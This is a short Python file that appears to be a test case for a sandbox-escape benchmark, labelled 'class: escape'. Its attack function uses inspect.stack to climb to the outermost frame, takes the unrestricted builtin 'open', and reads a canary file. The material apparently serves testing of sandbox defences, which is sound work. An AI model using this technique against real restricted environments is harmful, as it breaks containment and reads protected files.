# desc: inspect.stack climbs to a frame and its builtins
# class: escape
# wins: told
import inspect

def attack(state):
    return "L2:" + inspect.stack()[-1].frame.f_builtins["open"]("@CANARY@").read()
